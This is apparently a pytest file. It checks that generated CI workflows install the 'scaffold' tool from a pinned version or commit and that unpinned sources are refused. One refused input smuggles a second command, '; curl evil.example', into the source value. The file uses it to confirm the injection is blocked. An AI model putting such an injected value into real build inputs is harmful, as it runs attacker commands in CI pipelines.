"""How generated CI gets scaffold: the version that wrote it, or a source pinned by commit.

The step is run under bash with a recording fake `python` (it logs its argv and
installs nothing) and a fake `scaffold`, so what pip would be asked for is exact.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from tests.render import workflow_model as wm
from tests.render.contexts import SCAFFOLD_VERSION

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def _install_steps(rendered: dict[str, Path]) -> list[dict[str, object]]:
    found = []
    for root in rendered.values():
        for path in sorted(root.glob(".github/workflows/*.yml")):
            for job in wm.load(path)["jobs"].values():
                found += [s for s in wm.steps(job) if s.get("name") == "Install scaffold"]
    return found


def test_every_workflow_that_runs_scaffold_installs_it_one_way(
    rendered: dict[str, Path],
) -> None:
    steps = _install_steps(rendered)
    assert len(steps) >= 4  # ci's audit, deploy, rollback, backup-verify
    assert all(s == steps[0] for s in steps)
    env = steps[0]["env"]
    assert isinstance(env, dict)
    assert env["SCAFFOLD_VERSION"] == SCAFFOLD_VERSION
    assert env["SCAFFOLD_SOURCE"] == "${{ vars.SCAFFOLD_SOURCE }}"
    for root in rendered.values():
        ci = (root / ".github/workflows/ci.yml").read_text()
        assert "pipx run" not in ci and "scaffold audit . --fail-under" in ci


def test_infra_requirements_pin_the_same_version(rendered: dict[str, Path]) -> None:
    for root in rendered.values():
        lines = (root / "infra" / "requirements.txt").read_text().splitlines()
        assert f"scaffold-prod=={SCAFFOLD_VERSION}" in lines
        assert "pulumi-aws>=7,<8" in lines


def _run_install(step: dict[str, object], tmp_path: Path, source: str) -> tuple[int, list[str]]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    log = tmp_path / "pip-args"
    (bin_dir / "python").write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > "{log}"\n')
    (bin_dir / "scaffold").write_text("#!/bin/sh\necho scaffold test\n")
    for exe in bin_dir.iterdir():
        exe.chmod(0o755)
    env_block = step["env"]
    assert isinstance(env_block, dict)
    env = {
        **os.environ,
        "PATH": f"{bin_dir}:{os.environ['PATH']}",
        "SCAFFOLD_VERSION": str(env_block["SCAFFOLD_VERSION"]),
        "SCAFFOLD_SOURCE": source,  # what GitHub substitutes for the expression
    }
    done = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", str(step["run"])],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    return done.returncode, (log.read_text().splitlines() if log.exists() else [])


@pytest.mark.parametrize(
    ("source", "requirement"),
    [
        ("", f"scaffold-prod=={SCAFFOLD_VERSION}"),
        (
            f"git+https://github.com/acme/scaffold@{COMMIT}",
            f"scaffold-prod @ git+https://github.com/acme/scaffold@{COMMIT}",
        ),
    ],
)
def test_the_step_installs_the_pinned_source(
    rendered: dict[str, Path], tmp_path: Path, source: str, requirement: str
) -> None:
    code, argv = _run_install(_install_steps(rendered)[0], tmp_path, source)
    assert code == 0
    assert argv == ["-m", "pip", "install", "--no-cache-dir", requirement]


@pytest.mark.parametrize(
    "source",
    [
        "git+https://github.com/acme/scaffold@main",  # a branch moves under you
        "git+https://github.com/acme/scaffold",
        "scaffold-prod>=0.1",
        f"git+https://github.com/acme/scaffold@{COMMIT}; curl evil.example",
    ],
)
def test_an_unpinned_source_is_refused_before_pip_runs(
    rendered: dict[str, Path], tmp_path: Path, source: str
) -> None:
    code, argv = _run_install(_install_steps(rendered)[0], tmp_path, source)
    assert code == 2 and argv == []
